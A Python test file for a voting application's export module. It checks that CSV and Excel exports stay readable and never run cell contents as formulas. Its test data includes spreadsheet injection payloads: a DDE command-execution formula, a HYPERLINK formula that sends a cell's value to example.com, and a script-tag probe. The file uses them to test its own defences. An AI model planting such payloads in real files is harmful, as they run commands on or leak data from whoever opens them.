"""Tables for other programs: complete, readable by them, and never run as formulas."""

import csv
import io
import json
from datetime import datetime

import openpyxl
import pytest

from voting.documents.tables import Percent, Table, Value, neutral, to_csv, to_json, to_xlsx

AT = datetime(2026, 11, 25)
HOSTILE = (
    "=1+1",
    "+84 912 345 678",
    "-2",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "#N/A",
    "#REF!",
    "1;=1+1",
    'quote " and, comma',
    "Nguyễn Thị Ánh",
    "<script>alert(1)</script>",
)


def read_csv(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def one_column(*values: Value) -> Table:
    return Table("Kết quả", ("name",), tuple((value,) for value in values))


@pytest.mark.fault("W5")
def test_no_cell_of_a_csv_file_begins_like_a_formula_and_no_text_is_lost() -> None:
    raw = to_csv(Table("", HOSTILE, (HOSTILE,)))
    for row in read_csv(raw):
        assert not [
            cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
        ]
        assert [cell.removeprefix("'") for cell in row] == list(HOSTILE)
    print(f"W5: 0 formula cells of {len(HOSTILE)} in CSV")


@pytest.mark.fault("W5")
def test_no_cell_of_a_workbook_is_a_formula_and_every_text_is_as_it_was() -> None:
    # A workbook keeps no carriage return; names have none.
    texts = [text for text in HOSTILE if "\r" not in text]
    raw = to_xlsx([Table("Kết quả", tuple(texts), tuple((text,) * len(texts) for text in texts))], AT)
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in sheet["A"]][1:] == texts
    # So that it stays a text when somebody edits the cell.
    assert all(cell.quotePrefix for cell in cells if str(cell.value).startswith(("=", "+", "-", "@")))
    print(f"W5: 0 formula cells of {len(cells)} in a workbook")


def test_numbers_stay_numbers_and_what_is_not_known_stays_empty() -> None:
    table = Table("A", ("a", "b", "c", "d"), ((19, Percent(4043), None, "x"), (-1, Percent(5), 0, "")))
    assert read_csv(to_csv(table))[1:] == [["19", "40.43", "", "x"], ["-1", "0.05", "0", ""]]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([table], AT)))["A"]
    assert [cell.value for cell in sheet[2]] == [19, 0.4043, None, "x"]
    assert sheet["B2"].number_format == "0.00%"


def test_a_csv_file_opens_in_excel_with_its_diacritics() -> None:
    raw = to_csv(one_column("Nguyễn Thị Ánh"))
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith("Nguyễn Thị Ánh\r\n".encode())


def test_a_workbook_has_a_sheet_for_each_table_and_its_head_stays_in_sight() -> None:
    tables = [one_column("a"), Table("A/B: [x]* and a name that is far too long", ("n",), ())]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(tables, AT)))
    assert book.sheetnames == ["Kết quả", "A B   x   and a name that is fa"]
    assert [sheet.freeze_panes for sheet in book] == ["A2", "A2"]
    assert book.properties.creator in (None, "")


def test_a_text_that_is_no_formula_is_left_alone() -> None:
    assert [neutral(text) for text in ("", "An", "a=b", "'x", "1-2")] == ["", "An", "a=b", "'x", "1-2"]


def test_json_is_readable_by_people_and_programs() -> None:
    value = {"name": "Nguyễn Thị Ánh", "votes": [1, None]}
    raw = to_json(value)
    assert json.loads(raw) == value
    assert "Nguyễn Thị Ánh".encode() in raw
